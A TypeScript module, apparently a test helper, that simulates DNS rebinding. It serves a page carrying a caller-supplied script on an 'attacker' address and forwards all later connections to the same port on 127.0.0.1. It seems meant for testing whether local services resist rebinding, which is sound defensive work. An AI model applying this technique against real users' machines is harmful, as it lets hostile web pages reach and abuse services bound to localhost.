/**
 * DNS rebinding without waiting for a name to expire: an address of the attacker that serves a page, and hands on
 * everything else to the same port of this machine, as if the name had come to mean it.
 *
 * @module
 */
import { connect, createServer, type Server, type Socket } from "node:net";
import { once } from "node:events";

export interface Rebinding {
  stop(): Promise<void>;
}

/** @param address Where the attacker's name leads first; the port is that of the service. */
export async function startRebinding(
  address: string,
  urls: readonly string[],
  script: string,
): Promise<Rebinding> {
  const sockets = new Set<Socket>();
  const servers = await Promise.all(urls.map(async (url) => {
    const port = Number(new URL(url).port);
    const server = createServer((client) => {
      sockets.add(client);
      client.on("error", () => {});
      client.once("data", (first: Buffer) => answer(client, first, port));
    });
    server.listen(port, address);
    await once(server, "listening");
    return server;
  }));

  function answer(client: Socket, first: Buffer, port: number): void {
    const head = first.toString("latin1");
    if (!head.startsWith("GET / ") || /^upgrade:/im.test(head)) return handOn(client, first, port);
    const html = `<!doctype html><body><script type="module">${script}</script>`;
    client.end(
      // The next request is to come on a connection of its own, which is handed on.
      "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n" +
        `Content-Length: ${Buffer.byteLength(html)}\r\n\r\n${html}`,
    );
  }

  function handOn(client: Socket, first: Buffer, port: number): void {
    const service = connect({ port, host: "127.0.0.1" });
    sockets.add(service);
    service.on("error", () => client.destroy());
    service.on("close", () => client.destroy());
    client.on("close", () => service.destroy());
    service.write(first);
    client.pipe(service).pipe(client);
  }

  return {
    async stop() {
      for (const socket of sockets) socket.destroy();
      await Promise.all(servers.map((server: Server) => new Promise((resolve) => server.close(resolve))));
    },
  };
}
